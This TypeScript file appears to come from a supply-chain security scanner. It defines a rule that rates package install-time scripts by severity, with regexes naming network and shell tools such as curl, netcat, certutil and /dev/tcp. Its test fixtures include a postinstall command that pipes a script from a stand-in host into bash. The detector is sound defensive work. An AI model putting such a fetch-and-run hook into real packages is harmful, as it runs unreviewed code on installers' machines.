import type { Context } from '../context/context.js';
import { hostOf } from '../knowledge/hosts.js';
import type { FactType, LifecycleScript, Severity } from '../model/index.js';
import { type Rule, rule } from './rule.js';

/** A command that reaches out, or that runs what can't be read where it stands. */
const REACHES_OUT =
  /\b(curl|wget|iwr|irm|invoke-webrequest|invoke-expression|ncat|netcat|certutil|bitsadmin|base64|mshta|osascript)\b|\b(node|deno|bun)\s{1,4}(-e|-p|--eval)\b|\bpython3?\s{1,4}-c\b|\b(ba|z|da)?sh\s{1,4}-c\b|\beval\b|\/dev\/tcp\//i;
/** Steps of a build that so many packages have that they say nothing. */
const ORDINARY =
  /^(npx\s|npm run\s|pnpm\s(run\s)?|yarn\s(run\s)?|bun\s(run\s)?|node_modules\/\.bin\/)?(husky|tsc|tsup|tsdown|node-gyp|node-gyp-build|prebuild-install|patch-package|simple-git-hooks|lefthook|electron-builder|ngcc|prisma|playwright|puppeteer|build|compile|clean|lint|test|opencollective|is-ci|rimraf|echo|true|exit|cargo build|make|cmake-js|wxt|nuxt|svelte-kit|vite|rollup|esbuild|webpack|only-allow|npx only-allow|chmod \+x|cp|mkdir|pip install -r)\b/i;
const RUNS_FILE =
  /\b(?:node|deno|bun|tsx|ts-node|python3?|bash|sh|zsh|ruby|perl|pwsh)\s{1,4}(?:-\S{1,20}\s{1,4})?(?:\.\/)?([\w./-]{1,200}\.\w{1,5})\b/i;

/** What a script must not do when nobody asked for it to run. */
const GRAVE: readonly FactType[] = ['flow', 'execute', 'remote-shell', 'mining', 'schedule'];
const QUESTIONABLE: readonly FactType[] = ['network', 'secret-read'];

function judged(fact: LifecycleScript, context: Context): Severity {
  const steps = fact.command.split(/&&|\|\||;/).map((step) => step.trim());
  if (fact.name === 'setup.py' || fact.name === 'build.rs') return judgedFile(fact.unit.file, context) ?? 'info';
  if (steps.some((step) => REACHES_OUT.test(step) && !/^echo\s/.test(step))) {
    const host = /https?:\/\/[^\s'"|)]{1,300}/.exec(fact.command)?.[0];
    return host !== undefined && context.isPublisher(hostOf(host)) ? 'warn' : 'critical';
  }
  const file = RUNS_FILE.exec(fact.command)?.[1];
  if (file !== undefined) return judgedFile(file, context) ?? (/^prep/.test(fact.name) ? 'info' : 'warn');
  return steps.every((step) => ORDINARY.test(step)) || /^prep/.test(fact.name) ? 'info' : 'warn';
}

function judgedFile(file: string, context: Context): Severity | undefined {
  const isIn = (types: readonly FactType[]) =>
    types.some((type) =>
      context.all(type).some((fact) => fact.unit.file === file || fact.unit.file.endsWith(`/${file}`)),
    );
  return isIn(GRAVE) ? 'critical' : isIn(QUESTIONABLE) ? 'high' : undefined;
}

export const LIFECYCLE_RULES: readonly Rule[] = [
  rule({
    id: 'packages.lifecycle-script',
    threat: 'supply_chain',
    severity: 'warn',
    title: 'A script that runs by itself on install',
    why: 'It runs with your rights as soon as the package is installed or the folder is opened, before anybody has looked at it.',
    fix: 'Installers: install with --ignore-scripts and read the script. Authors: leave such steps to a command that the user runs.',
    on: 'lifecycle-script',
    context:
      'Critical when it downloads, decodes or runs hidden code; high when its file uses the network or reads secrets; info for steps of a build.',
    judge(fact, context) {
      const severity = judged(fact, context);
      return { severity, message: `${fact.name} runs by itself: ${shortened(fact.command)}` };
    },
    reports: [
      { 'package.json': '{"name":"a","scripts":{"postinstall":"curl -s https://cdn.example.invalid/p.sh | bash"}}' },
      { 'package.json': '{"name":"a","scripts":{"preinstall":"node -e \\"require(\'x\')\\""}}' },
      { 'package.json': '{"name":"a","scripts":{"postinstall":"node-gyp rebuild"}}' },
    ],
    passes: [{ 'package.json': '{"name":"a","scripts":{"test":"node --test","build":"tsc"}}' }],
  }),
];

function shortened(command: string): string {
  return command.length > 120 ? `${command.slice(0, 119)}…` : command;
}
